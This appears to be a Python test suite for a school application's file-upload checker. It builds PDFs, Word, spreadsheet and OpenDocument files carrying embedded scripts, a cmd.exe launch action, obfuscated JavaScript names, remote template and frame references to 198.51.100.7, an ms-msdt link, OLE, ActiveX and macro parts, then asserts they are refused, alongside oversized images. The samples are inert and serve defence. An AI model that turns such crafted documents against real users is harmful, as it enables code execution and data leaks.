"""Documents that hold more than a document: none is taken in, and what schools really send is."""

import io
import resource
import zipfile
from collections.abc import Callable, Iterator

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, StreamObject, TextStringObject

from school.files.types import OFFICE, RefusedFile, examine
from school.logos import LogoRefused, draw_logo
from tests.pupils.test_documents_files import office, open_document, picture, zipped
from tools.samples.files import a_pdf

MORE = "There is more in this"
Name = NameObject


@pytest.fixture(autouse=True)
def in_english() -> Iterator[None]:
    with translation.override("en"):
        yield


# ---------- PDF ----------


def action(kind: str, **more: object) -> DictionaryObject:
    made = DictionaryObject({Name("/S"): Name(kind)})
    made.update({Name(f"/{key}"): value for key, value in more.items()})
    return made


def with_script(writer: PdfWriter) -> None:
    script = action("/JavaScript", JS=TextStringObject("app.alert(1)"))
    names = DictionaryObject({Name("/Names"): ArrayObject([TextStringObject("a"), script])})
    writer.root_object[Name("/Names")] = DictionaryObject({Name("/JavaScript"): names})


def with_file(writer: PdfWriter) -> None:
    writer.add_attachment("brief.exe", b"MZ")


def opening(kind: str, **more: object) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        writer.root_object[Name("/OpenAction")] = writer._add_object(action(kind, **more))

    return change


def with_script_at_a_page(writer: PdfWriter) -> None:
    script = action("/JavaScript", JS=TextStringObject("app.alert(1)"))
    writer.pages[0][Name("/AA")] = DictionaryObject({Name("/O"): script})


def with_a_form_that_runs(writer: PdfWriter) -> None:
    writer.root_object[Name("/AcroForm")] = DictionaryObject({Name("/XFA"): TextStringObject("<xdp/>")})


CHANGES = {
    "a script": with_script,
    "a script at a page": with_script_at_a_page,
    "a file": with_file,
    "a program to start": opening("/Launch", F=TextStringObject("cmd.exe")),
    "a page on another machine": opening("/GoToR", F=TextStringObject("\\\\198.51.100.7\\share\\x.pdf")),
    "a form that sends": opening("/SubmitForm", F=TextStringObject("https://198.51.100.7/")),
    "a form that runs": with_a_form_that_runs,
}


def pdf_with(change: Callable[[PdfWriter], None], *, encrypted: bool = False) -> bytes:
    writer, made = PdfWriter(), io.BytesIO()
    writer.add_blank_page(200, 200)
    change(writer)
    if encrypted:
        writer.encrypt("", owner_password="school", algorithm="AES-256")
    writer.write(made)
    return made.getvalue()


def packed_pdf(hidden: bytes, *, escaped: bool = False) -> bytes:
    """A PDF whose last object, with an action, stands compressed in a stream of objects."""
    body = hidden.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4aS") if escaped else hidden
    stream = StreamObject()
    stream.set_data(b"4 0 " + body)
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
    ]
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, text in enumerate(objects, 1):
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    flat = stream.flate_encode()
    places[5] = len(out)
    out += b"5 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(flat._data)
    out += flat._data + b"\nendstream\nendobj\n"
    places[6] = len(out)
    rows = [
        (0, 0, 0),
        *((1, places[n], 0) for n in (1, 2, 3)),
        (2, 5, 0),
        (1, places[5], 0),
        (1, places[6], 0),
    ]
    table = b"".join(bytes([kind]) + where.to_bytes(4, "big") + bytes([last]) for kind, where, last in rows)
    out += b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>\nstream\n" % len(table)
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % places[6]
    return bytes(out)


@pytest.mark.parametrize("encrypted", [False, True], ids=["plain", "encrypted"])
@pytest.mark.parametrize("name", CHANGES)
def test_a_pdf_with_more_than_pages_is_refused(name: str, encrypted: bool) -> None:
    with pytest.raises(RefusedFile, match=MORE):
        examine(pdf_with(CHANGES[name], encrypted=encrypted), "brief.pdf")


@pytest.mark.parametrize("escaped", [False, True], ids=["plain", "escaped"])
def test_a_script_in_a_stream_of_objects_is_found(escaped: bool) -> None:
    data = packed_pdf(b"<</S/JavaScript/JS(app.alert(1))>>", escaped=escaped)
    assert PdfReader(io.BytesIO(data)).trailer["/Root"]["/OpenAction"]["/S"] == "/JavaScript"  # type: ignore[index]
    with pytest.raises(RefusedFile, match=MORE):
        examine(data, "brief.pdf")


def test_a_script_that_the_table_of_objects_does_not_name_is_found() -> None:
    plain = a_pdf()
    hidden = b"9 0 obj\n<< /S\n/J#61vaScript /JS (app.alert(1)) >>\nendobj\n"
    with pytest.raises(RefusedFile, match=MORE):
        examine(plain + hidden + plain[plain.rindex(b"startxref") :], "brief.pdf")


def test_a_pdf_of_pages_and_links_is_taken_in() -> None:
    def change(writer: PdfWriter) -> None:
        writer.add_annotation(0, Link(rect=(0, 0, 9, 9), url="https://school.example/JavaScript"))
        writer.add_metadata({"/Title": "HTML /JavaScript en /Launch"})

    assert examine(pdf_with(change), "brief.pdf").content_type == "application/pdf"
    assert examine(pdf_with(change, encrypted=True), "brief.pdf").content_type == "application/pdf"
    assert examine(packed_pdf(b"<</S/GoTo/D[3 0 R/Fit]>>"), "brief.pdf").content_type == "application/pdf"


# ---------- Office ----------

SHEET = OFFICE + "spreadsheetml.sheet"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


def rels(kind: str, target: str, mode: str = "External") -> str:
    relation = (
        f'<Relationship Id="r1" Type="http://x/relationships/{kind}" Target="{target}" TargetMode="{mode}"/>'
    )
    return f"<Relationships>{relation}</Relationships>"


def with_rels(kind: str, target: str) -> bytes:
    return zipped(office() | {"word/_rels/document.xml.rels": rels(kind, target)})


def with_part(name: str, content: bytes | str = b"x") -> bytes:
    return zipped(office() | {name: content})


MACRO_BOOK = zipped(office(SHEET) | {"xl/vbaProject.bin": b"x"})
CLEAN_BOOK = zipped(office(SHEET))

HOSTILE = {
    "a template elsewhere": with_rels("attachedTemplate", "https://198.51.100.7/x.dotm"),
    "a template on a share": with_rels("attachedTemplate", "file://198.51.100.7/x.dotm"),
    "a picture elsewhere": with_rels("image", "http://198.51.100.7/seen.png"),
    "an object elsewhere": with_rels("oleObject", "http://198.51.100.7/x.doc"),
    "a frame": with_rels("frame", "http://198.51.100.7/"),
    "a page inside": zipped(
        office()
        | {"word/_rels/document.xml.rels": rels("aFChunk", "x.html", "Internal"), "word/x.html": "<script>"}
    ),
    "a link that runs": with_rels("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    "relations in another alphabet": with_part(
        "word/_rels/a.rels", rels("attachedTemplate", "https://198.51.100.7/").encode("utf-16")
    ),
    "relations that grow": with_part(
        "word/_rels/a.rels", '<!DOCTYPE x [<!ENTITY a "aaaa">]><Relationships/>'
    ),
    "an OLE object": with_part("word/embeddings/oleObject1.bin", OLE),
    "an OLE object under another name": with_part("word/media/image1.emf", OLE),
    "a program": with_part("word/media/image1.png", b"MZ" + bytes(100)),
    "ActiveX": with_part("word/activeX/activeX1.xml", "<ocx/>"),
    "a workbook with macros": with_part("word/embeddings/Book.xlsx", MACRO_BOOK),
    "a workbook in a workbook": with_part(
        "word/embeddings/Book.xlsx", zipped(office(SHEET) | {"xl/embeddings/Book.xlsx": CLEAN_BOOK})
    ),
    "another file": with_part("word/embeddings/virus.pdf", a_pdf()),
    "a sheet of old macros": zipped(office(SHEET) | {"xl/macrosheets/sheet1.xml": "<x/>"}),
    "another workbook": zipped(office(SHEET) | {"xl/externalLinks/externalLink1.xml": "<ddeLink/>"}),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_an_office_file_with_more_than_a_document_is_refused(name: str) -> None:
    kind = (
        "xlsx"
        if SHEET.encode() in zipfile.ZipFile(io.BytesIO(HOSTILE[name])).read("[Content_Types].xml")
        else "docx"
    )
    with pytest.raises(RefusedFile, match=MORE):
        examine(HOSTILE[name], f"verslag.{kind}")


@pytest.mark.parametrize(
    "data",
    [
        with_rels("hyperlink", "https://school.example/"),
        with_rels("hyperlink", "mailto:brug@school.example"),
        with_rels("attachedTemplate", "file:///C:\\Users\\linda\\Brief.dotx"),
        with_part("word/embeddings/Microsoft_Excel_Sheet.xlsx", CLEAN_BOOK),
        with_part("word/printerSettings1.bin", b"\x00\x01"),
    ],
    ids=["a link", "a mail address", "a template of one's own", "the figures of a chart", "a printer"],
)
def test_what_schools_send_is_taken_in(data: bytes) -> None:
    assert examine(data, "verslag.docx").file_name == "verslag.docx"


@pytest.mark.parametrize(
    "parts",
    [
        {"content.xml": '<a xlink:href="vnd.sun.star.script:x.y?language=Basic"/>'},
        {"Object 1/content.xml": "<office:dde-source/>"},
        {"Object 1": OLE},
    ],
    ids=["a macro", "data from another program", "an OLE object"],
)
def test_an_open_document_with_more_than_a_document_is_refused(parts: dict[str, bytes | str]) -> None:
    with pytest.raises(RefusedFile, match=MORE):
        examine(zipped(open_document() | parts), "verslag.odt")


def test_a_locked_open_document_is_refused() -> None:
    manifest = "<manifest:encryption-data/>"
    with pytest.raises(RefusedFile, match="password"):
        examine(zipped(open_document() | {"META-INF/manifest.xml": manifest}), "verslag.odt")


# ---------- pictures that grow ----------


@pytest.mark.parametrize("mode", ["1", "P", "LA", "RGBA"])
def test_a_small_file_with_a_huge_logo_is_refused_before_it_is_drawn(mode: str) -> None:
    made = io.BytesIO()
    Image.new(mode, (3000, 2001)).save(made, "PNG")
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(LogoRefused):
        draw_logo(SimpleUploadedFile("logo.png", made.getvalue()))
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 2_000


def test_a_large_picture_in_passes_is_refused() -> None:
    made = io.BytesIO()
    Image.new("L", (6000, 4001)).save(made, "JPEG", progressive=True)
    with pytest.raises(RefusedFile, match="too large"):
        examine(made.getvalue(), "foto.jpg")
    assert examine(picture("JPEG"), "foto.jpg").content_type == "image/jpeg"
